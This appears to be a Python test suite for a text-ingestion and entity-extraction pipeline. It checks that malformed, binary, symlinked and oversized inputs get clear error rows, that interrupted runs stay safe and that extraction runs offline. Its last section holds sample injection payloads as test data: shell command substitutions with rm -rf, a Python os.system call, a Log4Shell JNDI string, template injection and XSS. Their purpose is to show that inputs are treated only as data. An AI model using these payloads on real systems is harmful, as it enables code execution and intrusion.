"""Nothing lost, nothing crashes: every kind of bad input gets one row with a status and an
error a person can act on, and never disturbs the good documents next to it.

The real CLI runs once on a corpus holding two real seed articles and every fault we know
of (module fixture `faults`); the tests below read its tables.
"""

from __future__ import annotations

import codecs
import io
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from pipeline.report.query import answer, connect, examples
from tests.conftest import ROOT, SEEDS, Tables, run_extract

ENGLISH = "004_c4024183f534b317.txt"
RUSSIAN = "002_3f9ac97f5614fdf7.txt"
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
ROOT_SKIP = "running as root: chmod 000 does not stop root from reading, so this fault cannot be staged"

KAZAKH_ARTICLE = """Астанада балалар құқықтары жөніндегі халықаралық конференция өтті

Қазақстан Республикасының Үкіметі балаларды қорғау жөніндегі жаңа бағдарламаны бекітті.
Конференцияға Парламент Мәжілісінің депутаттары, министрліктердің өкілдері және халықаралық ұйымдардың сарапшылары қатысты.
Қатысушылар балалардың білім алу және денсаулық сақтау құқықтарын қамтамасыз ету мәселелерін талқылады.
"""

GERMAN_ARTICLE = """Internationale Konferenz in Astana

Die Regierung von Kasachstan hat am Mittwoch ein neues Programm zum Schutz der Kinderrechte beschlossen.
An der Konferenz nahmen Abgeordnete des Parlaments, Vertreter der Ministerien und Fachleute internationaler Organisationen teil.
Die Teilnehmer sprachen über Bildung, Gesundheit und die Rechte von Kindern in schwierigen Lebenslagen.
"""

# windows-1252 has the curly quotes and the en dash; this text has nothing outside it.
WESTERN_ARTICLE = """Kazakhstan declares the “Year of Youth”

The President of Kazakhstan Nursultan Nazarbayev declared the next year the “Year of Youth of Kazakhstan.” In this regard, one of the tasks facing the Government is to support the efforts of partners – international organizations and the non-governmental sector.

The United Nations International Children’s Emergency Fund was established December 11, 1946 by decision of the General Assembly.
"""

# KOI8-R has no guillemets or en dash; one-for-one ASCII stand-ins keep every offset.
KOI8_R_STAND_INS = str.maketrans({"«": '"', "»": '"', "–": "-"})


def koi8_r_text(text: str) -> str:
    return text.translate(KOI8_R_STAND_INS)


# (relative path, expected status); filled in by `_build_corpus`.
EXPECTED: dict[str, str] = {}


def _write(root: Path, relative: str, data: bytes, status: str) -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    EXPECTED[relative] = status
    return path


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("article.txt", (SEEDS / ENGLISH).read_text(encoding="utf-8"))
    return buffer.getvalue()


def _build_corpus(root: Path, outside: Path) -> None:
    english = (SEEDS / ENGLISH).read_bytes()
    russian_text = (SEEDS / RUSSIAN).read_text(encoding="utf-8")
    _write(root, ENGLISH, english, "ok")
    _write(root, RUSSIAN, russian_text.encode("utf-8"), "ok")
    # The same Russian article in the legacy and Unicode encodings the corpus really has.
    _write(root, "ru_windows1251.txt", russian_text.encode("windows-1251"), "ok")
    _write(root, "ru_koi8r.txt", koi8_r_text(russian_text).encode("koi8-r"), "ok")
    _write(root, "ru_utf16_bom.txt", codecs.BOM_UTF16_LE + russian_text.encode("utf-16-le"), "ok")
    _write(root, "en_windows1252.txt", WESTERN_ARTICLE.encode("windows-1252"), "ok")
    # Binaries.
    _write(root, "report.pdf", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", "binary")
    _write(root, "photo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00\x90\x91h6", "binary")
    _write(root, "bundle.zip", _zip_bytes(), "binary")
    _write(root, "random.bin", random.Random(0).randbytes(4096) + b"\x00" * 16, "binary")
    _write(root, "utf16_no_bom.txt", russian_text[:500].encode("utf-16-le"), "binary")
    # Text we cannot decode.
    chinese = "中华人民共和国国务院今天发布了关于经济发展的新政策，专家认为这将促进增长。" * 3
    _write(root, "chinese_gbk.txt", chinese.encode("gbk"), "undecodable")
    _write(root, "bom_then_garbage.txt", codecs.BOM_UTF8 + b"abc \xff\xfe\xfd def", "undecodable")
    # Nothing to read.
    _write(root, "empty.txt", b"", "empty")
    _write(root, "blank.txt", b"  \n\t\n   \r\n", "empty")
    # Languages we do not process.
    _write(root, "kazakh.txt", KAZAKH_ARTICLE.encode("utf-8"), "unsupported_language")
    _write(root, "german.txt", GERMAN_ARTICLE.encode("utf-8"), "unsupported_language")
    # Over the 50,000-byte cap passed with --config: valid English, never read.
    big = (WESTERN_ARTICLE + "\n") * (60_000 // len(WESTERN_ARTICLE.encode("utf-8")) + 1)
    _write(root, "big.txt", big.encode("utf-8"), "too_large")
    # Names and places.
    _write(root, "статья номер 1.txt", (SEEDS / "001_5fce6596f7a097a4.txt").read_bytes(), "ok")
    _write(root, "sub/deeper/000_nested.txt", (SEEDS / "000_62f9b85a2699e482.txt").read_bytes(), "ok")
    _write(root, "copy of 004.txt", english, "duplicate")
    name = os.fsdecode(b"latin1-caf\xe9.txt")  # a file name that is not valid UTF-8
    (root / name).write_bytes((SEEDS / "003_98032db7937bd36e.txt").read_bytes())
    EXPECTED["latin1-caf\\xe9.txt"] = "ok"
    # Things that are not regular files inside the root.
    (root / "broken_link.txt").symlink_to(root / "does-not-exist.txt")
    EXPECTED["broken_link.txt"] = "unreadable"
    outside.mkdir()
    (outside / "secret.txt").write_text("The President of Kazakhstan spoke in Astana.", encoding="utf-8")
    (root / "link_outside.txt").symlink_to(outside / "secret.txt")
    EXPECTED["link_outside.txt"] = "outside_root"
    (root / "link_to_dir").symlink_to(root / "sub")
    EXPECTED["link_to_dir"] = "not_a_file"
    os.mkfifo(root / "a_pipe")
    EXPECTED["a_pipe"] = "not_a_file"
    if not IS_ROOT:
        locked = _write(root, "locked.txt", english + b"\nlocked", "unreadable")
        locked.chmod(0)


@pytest.fixture(scope="module")
def faults(tmp_path_factory):
    base = tmp_path_factory.mktemp("faults")
    root, output = base / "input", base / "output"
    root.mkdir()
    EXPECTED.clear()
    _build_corpus(root, base / "outside")
    config = base / "small-cap.toml"
    config.write_text("[ingest]\nmax_file_bytes = 50000\n", encoding="utf-8")
    try:
        result = run_extract(root, output, "--config", str(config), check=False)
    finally:
        if (root / "locked.txt").exists():
            (root / "locked.txt").chmod(0o644)
    assert result.returncode == 3, result.stderr
    return Tables(output, result)


def _row(faults: Tables, path: str):
    rows = faults.documents[faults.documents.path == path]
    assert len(rows) == 1, (path, faults.documents.path.tolist())
    return rows.iloc[0]


def test_one_row_per_input_file_with_the_expected_status(faults: Tables):
    docs = faults.documents
    assert docs.doc_id.is_unique
    assert sorted(docs.path) == sorted(EXPECTED)
    got = dict(zip(docs.path, docs.status))
    assert got == EXPECTED


def test_every_row_that_is_not_ok_says_what_to_do(faults: Tables):
    docs = faults.documents
    bad = docs[docs.status != "ok"]
    assert len(bad) >= 15
    assert bad.error.notna().all() and (bad.error.str.len() > 20).all(), bad[["path", "error"]]
    assert docs[docs.status == "ok"].error.isna().all()
    errors = dict(zip(docs.path, docs.error))
    assert "PDF" in errors["report.pdf"]
    assert "PNG" in errors["photo.png"]
    assert "ZIP" in errors["bundle.zip"]
    assert "NUL" in errors["random.bin"]
    assert "UTF-8" in errors["chinese_gbk.txt"]
    assert "empty" in errors["empty.txt"] and "whitespace" in errors["blank.txt"]
    assert "50,000" in errors["big.txt"] and "max_file_bytes" in errors["big.txt"]
    assert "broken symbolic link" in errors["broken_link.txt"]
    assert "outside the input folder" in errors["link_outside.txt"]
    assert "directory" in errors["link_to_dir"]
    assert "'kk'" in errors["kazakh.txt"] and "'de'" in errors["german.txt"]


def test_exit_code_and_summary_name_the_failures(faults: Tables):
    stderr = faults.result.stderr
    assert faults.result.returncode == 3
    assert "Traceback" not in stderr
    failed = {status for status in EXPECTED.values() if status not in {"ok", "empty", "duplicate", "unsupported_language"}}
    for status in failed:
        assert status in stderr, status
    n_failed = sum(status in failed for status in EXPECTED.values())
    assert f"FAILED: {n_failed} document(s)" in stderr


def test_run_record_lists_every_failure_with_its_reason(faults: Tables):
    record = json.loads((faults.dir / "run.json").read_text(encoding="utf-8"))
    failed = faults.documents[~faults.documents.status.isin(["ok", "empty", "duplicate", "unsupported_language"])]
    assert sorted((f["path"], f["status"], f["error"]) for f in record["failures"]) == sorted(zip(failed.path, failed.status, failed.error))
    assert record["documents"]["by_status"] == faults.documents.status.value_counts().sort_index().to_dict()


def test_the_status_question_answers_with_reasons(faults: Tables):
    (example,) = [example for example in examples() if example.name == "documents-by-status"]
    result = answer(connect(faults.dir), example.sql)
    rows = {row[0]: dict(zip(result.columns, row)) for row in result.rows}
    assert {status: row["n_documents"] for status, row in rows.items()} == faults.documents.status.value_counts().to_dict()
    binary = faults.documents[faults.documents.status == "binary"]
    assert rows["binary"]["example_error"] == binary.error.min()
    assert rows["binary"]["example_paths"] == sorted(binary.path)[:3]


def test_unsupported_languages_keep_their_code(faults: Tables):
    assert _row(faults, "kazakh.txt").lang == "kk"
    assert _row(faults, "german.txt").lang == "de"


def test_too_large_file_is_measured_not_read(faults: Tables):
    row = _row(faults, "big.txt")
    assert row.n_bytes > 50_000
    assert pd.isna(row.text) and pd.isna(row.sha256)


def test_duplicate_points_at_the_first_copy(faults: Tables):
    row = _row(faults, "copy of 004.txt")
    assert row.duplicate_of == faults.doc_id(ENGLISH)
    assert row.sha256 == _row(faults, ENGLISH).sha256
    assert faults.mentions_of("copy of 004.txt").empty


def test_odd_names_and_nested_folders_are_ok(faults: Tables):
    for path in ("статья номер 1.txt", "sub/deeper/000_nested.txt", "latin1-caf\\xe9.txt"):
        row = _row(faults, path)
        assert row.status == "ok" and row.lang == "en"
        assert not faults.mentions[faults.mentions.doc_id == row.doc_id].empty
    assert _has(faults, "sub/deeper/000_nested.txt", "LOC", "Almaty")


@pytest.mark.skipif(IS_ROOT, reason=ROOT_SKIP)
def test_unreadable_file(faults: Tables):
    row = _row(faults, "locked.txt")
    assert row.status == "unreadable" and "permission" in row.error.lower()


def _has(tables: Tables, path: str, label: str, text: str) -> bool:
    mentions = tables.mentions_of(path)
    return ((mentions.label == label) & (mentions.text == text)).any()


def test_good_files_get_their_entities(faults: Tables):
    assert _has(faults, ENGLISH, "PER", "Nursultan Nazarbayev")
    assert _has(faults, RUSSIAN, "ORG", "ЮНИСЕФ")
    assert _has(faults, RUSSIAN, "LOC", "Астане")
    assert _has(faults, "en_windows1252.txt", "PER", "Nursultan Nazarbayev")


def test_every_offset_indexes_its_document_text(faults: Tables):
    texts = dict(zip(faults.documents.doc_id, faults.documents.text))
    assert len(faults.mentions) > 100
    for row in faults.mentions.itertuples():
        assert texts[row.doc_id][row.start_char : row.end_char] == row.text, row


def test_bad_neighbours_change_nothing_for_good_files(faults: Tables, seeds_output: Tables):
    """Same mentions, ids and entity ids as in the clean run on the seeds alone."""
    for name in (ENGLISH, RUSSIAN):
        clean = seeds_output.mentions_of(name).sort_values("mention_id").reset_index(drop=True)
        here = faults.mentions_of(name).sort_values("mention_id").reset_index(drop=True)
        assert len(clean) > 10
        pd.testing.assert_frame_equal(here, clean)
        clean_doc = seeds_output.documents.set_index("path").loc[name]
        doc = _row(faults, name)
        for column in ("doc_id", "sha256", "text", "lang", "lang_prob", "status", "published"):
            assert doc[column] == clean_doc[column] or (pd.isna(doc[column]) and pd.isna(clean_doc[column])), column


@pytest.mark.parametrize(
    ("path", "encoding"),
    [("ru_windows1251.txt", "windows-1251"), ("ru_koi8r.txt", "koi8-r"), ("ru_utf16_bom.txt", "utf-16-le")],
)
def test_legacy_and_utf16_russian_decode_to_the_same_text_and_entities(faults: Tables, path, encoding):
    original = (SEEDS / RUSSIAN).read_text(encoding="utf-8")
    row = _row(faults, path)
    assert (row.status, row.encoding, row.lang) == ("ok", encoding, "ru")
    assert row.text == (koi8_r_text(original) if encoding == "koi8-r" else original)
    columns = ["start_char", "end_char", "text", "label", "normalized", "sentence", "source", "entity_id", "date_value"]
    expected = faults.mentions_of(RUSSIAN)[columns].sort_values(["start_char", "end_char"]).reset_index(drop=True)
    actual = faults.mentions_of(path)[columns].sort_values(["start_char", "end_char"]).reset_index(drop=True)
    pd.testing.assert_frame_equal(actual, expected)
    assert ((actual.text == "ЮНИСЕФ") & (actual.label == "ORG")).any()


def test_windows_1252_english_keeps_its_curly_quotes(faults: Tables):
    row = _row(faults, "en_windows1252.txt")
    assert (row.status, row.encoding, row.lang) == ("ok", "windows-1252", "en")
    assert row.text == WESTERN_ARTICLE
    assert "“Year of Youth" in row.text and "Children’s" in row.text


def test_output_inside_input_is_refused_and_nothing_is_written(tmp_path):
    source = tmp_path / "input"
    source.mkdir()
    shutil.copy(SEEDS / ENGLISH, source / ENGLISH)
    for output in (source / "out", source):
        before = sorted(p.name for p in source.rglob("*"))
        result = run_extract(source, output, check=False)
        assert result.returncode == 2
        assert "inside the input folder" in result.stderr
        assert "Traceback" not in result.stderr
        assert sorted(p.name for p in source.rglob("*")) == before


def test_input_inside_the_output_folder_is_refused_and_nothing_is_written(seeds_output, tmp_path):
    """`--input OUTPUT/report` (the report's pages) once became documents and replaced the tables."""
    output = tmp_path / "output"
    shutil.copytree(seeds_output.dir, output, symlinks=True)
    (output / "report").mkdir()
    (output / "report" / "index.html").write_text("<html><body><p>Astana</p></body></html>", encoding="utf-8")
    before = sorted(str(p.relative_to(output)) for p in output.rglob("*"))
    result = run_extract(output / "report", output, check=False)
    assert result.returncode == 2
    assert "is inside the output folder" in result.stderr and "Traceback" not in result.stderr
    assert sorted(str(p.relative_to(output)) for p in output.rglob("*")) == before


# --- long documents: cut into pieces, offsets mapped back ---------------------------------


@pytest.fixture(scope="module")
def ruler_recognizer():
    """The real Recognizer and its piece machinery around a fast rule-based English pipeline,
    so a 1.2 MB document takes seconds (the statistical model needs about a minute)."""
    import spacy

    from pipeline.ner.recognizer import Recognizer
    from pipeline.ner.build import ModelInfo

    nlp = spacy.blank("en")
    nlp.add_pipe("sentencizer")
    ruler = nlp.add_pipe("entity_ruler")
    ruler.add_patterns(
        [
            {"label": "PERSON", "pattern": "Nursultan Nazarbayev"},
            {"label": "PERSON", "pattern": "Bakytzhan Sagintayev"},
            {"label": "GPE", "pattern": "Astana"},
            {"label": "ORG", "pattern": "UNICEF"},
        ]
    )
    recognizer = Recognizer({}, batch_size=4)
    recognizer.pipelines["en"], recognizer.models["en"] = nlp, ModelInfo("en", "test-ruler", "0")
    return recognizer


def test_long_document_is_cut_into_pieces_with_whole_text_offsets(ruler_recognizer):
    from pipeline.ner.pieces import MAX_PIECE_CHARS, split_document
    from pipeline.records import Document

    paragraphs = [p for p in (SEEDS / ENGLISH).read_text(encoding="utf-8").split("\n\n") if len(p) > 40]
    text, i = "", 0
    while len(text) < 1_200_000:
        text += paragraphs[i % len(paragraphs)] + ("\n\n" if i % 7 else "\n\n\n")
        i += 1
    assert len(text) > ruler_recognizer.pipelines["en"].max_length
    doc = Document("long", "long.txt", None, None, text, lang="en")
    pieces = split_document(doc, {"en"})
    assert len(pieces) >= 12 and all(len(p.text) <= MAX_PIECE_CHARS for p in pieces)
    assert "".join(p.text for p in pieces) == text

    mentions, failures = ruler_recognizer.recognize([doc])
    assert failures == {}
    mentions = mentions["long"]
    for mention in mentions:
        assert text[mention.start_char : mention.end_char] == mention.text
    # Cuts fall between paragraphs, so no name is lost or split at a cut.
    for name in ("Nursultan Nazarbayev", "Astana", "UNICEF"):
        assert sum(m.text == name for m in mentions) == text.count(name)
    assert any(m.start_char >= pieces[-1].start for m in mentions)
    ordered = sorted(mentions, key=lambda m: m.start_char)
    sentences = [m.sentence for m in ordered]
    assert sentences == sorted(sentences)
    assert sentences[-1] > 10 * sentences[len(sentences) // 10]  # numbering runs on across pieces


def test_text_without_separators_is_cut_hard():
    from pipeline.ner.pieces import cut_points

    text = "x" * 250
    spans = cut_points(text, 0, len(text), 100)
    assert spans == [(0, 100), (100, 200), (200, 250)]
    sentences = "One sentence here. " * 20
    spans = cut_points(sentences, 0, len(sentences), 100)
    assert all(sentences[start:end].endswith(". ") for start, end in spans[:-1])
    assert "".join(sentences[s:e] for s, e in spans) == sentences


def test_real_english_model_on_pieces_keeps_offsets():
    """The statistical model through the same path, with small pieces to keep it quick."""
    from pipeline.config import load_config
    from pipeline.ner.pieces import split_document
    from pipeline.ner.recognizer import Recognizer
    from pipeline.records import Document

    text = "\n\n".join([(SEEDS / ENGLISH).read_text(encoding="utf-8")] * 3)
    config = load_config()
    recognizer = Recognizer({"en": config.ner.english_models}, batch_size=4, max_piece_chars=3000)
    doc = Document("d", "d.txt", None, None, text, lang="en")
    pieces = split_document(doc, {"en"}, 3000)
    assert len(pieces) >= 5
    mentions = recognizer.recognize([doc])[0]["d"]
    for mention in mentions:
        assert text[mention.start_char : mention.end_char] == mention.text
    people = [m for m in mentions if m.text == "Nursultan Nazarbayev" and m.label == "PER"]
    assert len(people) >= 3 * 2
    assert any(m.start_char >= pieces[-1].start for m in mentions)


# --- interrupted runs ----------------------------------------------------------------------

TABLE_NAMES = ("documents", "mentions", "entities")


def _staged_tables(output: Path) -> list[str]:
    """The tables a run writes before it publishes them."""
    return sorted(str(p.relative_to(output)) for p in (output / ".newsents" / "runs").glob("*/set/*"))


def _temp_files(output: Path) -> list[str]:
    """What a run writes before it publishes: the tables it stages, and temporary names."""
    return sorted(_staged_tables(output) + [str(p.relative_to(output)) for p in output.rglob("*") if ".tmp-" in p.name])


@pytest.fixture(scope="module")
def interrupted(tmp_path_factory, seeds_output: Tables):
    """Tables of a finished run; a bigger run killed while writing; then a normal rerun."""
    base = tmp_path_factory.mktemp("interrupted")
    output = base / "output"
    output.mkdir()
    for name in TABLE_NAMES:  # the seeds run's tables stand for "the previous run"
        shutil.copy(seeds_output.dir / f"{name}.parquet", output / f"{name}.parquet")
    before = {name: pd.read_parquet(output / f"{name}.parquet") for name in TABLE_NAMES}

    corpus = base / "corpus"
    corpus.mkdir()
    copies = 10
    for i in range(copies):
        for seed in sorted(SEEDS.iterdir()):  # a line of its own makes each copy a new document
            (corpus / f"copy{i:02d}_{seed.name}").write_text(seed.read_text(encoding="utf-8") + f"\n\nCopy {i}.\n", encoding="utf-8")
    config = base / "small-batches.toml"
    config.write_text("[ner]\nbatch_size = 2\n", encoding="utf-8")
    command = [sys.executable, "-m", "pipeline", "extract", "--input", str(corpus), "--output", str(output), "--no-progress", "--config", str(config)]
    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while not _staged_tables(output):
        assert process.poll() is None, "the run ended before it wrote anything: " + process.stderr.read().decode()
        assert time.monotonic() < deadline, "no staged table appeared within 120 s"
        time.sleep(0.02)
    assert process.poll() is None, "the run finished before it could be killed; make the corpus bigger"
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    process.stderr.close()
    killed = {
        "returncode": process.returncode,
        "tables": {name: pd.read_parquet(output / f"{name}.parquet") for name in TABLE_NAMES},
        "temp_files": _staged_tables(output),
    }
    rerun = run_extract(corpus, output, "--config", str(config))
    return {
        "before": before,
        "killed": killed,
        "rerun": Tables(output, rerun),
        "n_files": copies * len(list(SEEDS.iterdir())),
        "temp_files_after_rerun": _temp_files(output),
    }


def test_killed_run_leaves_previous_tables_untouched(interrupted):
    killed = interrupted["killed"]
    assert killed["returncode"] == -signal.SIGKILL
    assert killed["temp_files"], "the kill should have caught the run mid-write"
    for name in TABLE_NAMES:
        pd.testing.assert_frame_equal(killed["tables"][name], interrupted["before"][name])


def test_run_after_a_kill_completes_with_every_row(interrupted):
    tables = interrupted["rerun"]
    assert tables.result.returncode == 0
    assert len(tables.documents) == interrupted["n_files"]
    assert (tables.documents.status == "ok").all()
    assert not tables.mentions.empty and not tables.entities.empty
    assert set(tables.mentions.doc_id) <= set(tables.documents.doc_id)


def test_run_after_a_kill_removes_the_killed_runs_temp_files(interrupted):
    assert interrupted["temp_files_after_rerun"] == []


# --- no network, and inputs are only data ----------------------------------------------------

BLOCK_NETWORK_AND_RUN = """
import os, socket, sys
log = os.environ["NETWORK_LOG"]
def blocked(*args, **kwargs):
    with open(log, "a") as f:
        f.write(repr(args[1:] or args) + "\\n")
    raise OSError("network access is blocked in this test")
socket.socket.connect = blocked
socket.socket.connect_ex = blocked
socket.socket.sendto = blocked
socket.create_connection = blocked
socket.getaddrinfo = blocked
sys.path.insert(0, os.environ["PIPELINE_ROOT"])
from pipeline.cli import main
sys.exit(main(sys.argv[1:]))
"""

HOSTILE = (
    "Officials in Astana said on Monday that the plan was approved.\n\n"
    "__import__('os').system('touch PWNED')\n\n"
    "$(touch PWNED) `touch PWNED` ; touch PWNED && rm -rf PWNED_DIR\n\n"
    "{{ config.__class__ }} ${jndi:ldap://example.com/a} <script>alert(1)</script>\n"
)


@pytest.fixture(scope="module")
def offline(tmp_path_factory):
    base = tmp_path_factory.mktemp("offline")
    corpus, output, log = base / "input", base / "output", base / "network.log"
    shutil.copytree(SEEDS, corpus)
    (corpus / "hostile $(touch PWNED).txt").write_text(HOSTILE, encoding="utf-8")
    env = {**os.environ, "NETWORK_LOG": str(log), "PIPELINE_ROOT": str(ROOT)}
    command = [sys.executable, "-c", BLOCK_NETWORK_AND_RUN, "extract", "--input", str(corpus), "--output", str(output), "--no-progress"]
    result = subprocess.run(command, cwd=base, env=env, capture_output=True, text=True)
    return base, Tables(output, result) if result.returncode == 0 else result, log


def test_extraction_needs_no_network(offline):
    base, tables, log = offline
    assert isinstance(tables, Tables), tables.stderr
    assert not log.exists(), log.read_text()
    assert len(tables.documents) == len(list(SEEDS.iterdir())) + 1
    assert (tables.documents.status == "ok").all()


def test_input_files_are_only_data(offline):
    base, tables, _ = offline
    assert isinstance(tables, Tables), tables.stderr
    row = tables.documents[tables.documents.path.str.startswith("hostile")].iloc[0]
    assert (row.status, row.lang) == ("ok", "en")
    assert row.text == HOSTILE
    assert not list(base.rglob("PWNED")) and not (ROOT / "PWNED").exists()
